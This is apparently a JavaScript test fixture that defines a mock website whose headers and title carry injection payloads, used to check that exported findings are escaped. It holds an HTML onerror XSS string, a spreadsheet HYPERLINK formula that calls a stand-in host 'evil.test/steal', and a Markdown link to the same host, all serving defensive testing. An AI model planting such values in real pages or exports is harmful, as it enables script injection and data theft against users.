/**
 * pasted.test: a site whose own strings try to take over the exports a user pastes into a proposal.
 * Its title and headers carry an HTML image with an onerror handler, a spreadsheet formula that
 * would fetch another site, and Markdown link syntax; its server software versions are real-looking,
 * so the findings quote these values back.
 */
export const HOSTILE_HTML = '<img src=x onerror=alert(1)>';
export const HOSTILE_FORMULA = '=HYPERLINK("http://evil.test/steal","Click me")';
export const HOSTILE_MARKDOWN = '[click](http://evil.test/md)';

/** @type {import('./index.mjs').SiteDefinition} */
export const pastedSite = {
  host: 'pasted.test',
  http: 'serve',
  headers: () => ({
    Server: `${HOSTILE_HTML} nginx/1.18.0`,
    'X-Powered-By': `${HOSTILE_FORMULA} PHP/8.1.2`,
    'X-Generator': `${HOSTILE_MARKDOWN} Drupal 9.5.11`,
  }),
  routes: {
    '/': {
      type: 'text/html; charset=utf-8',
      body: () => `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>${HOSTILE_HTML} ${HOSTILE_FORMULA}</title>
<meta name="generator" content="&lt;img src=x onerror=alert(1)&gt; Joomla! 3.9.2">
</head>
<body><h1>Agence Lune</h1><p>Web design in Lyon.</p></body>
</html>
`,
    },
  },
};
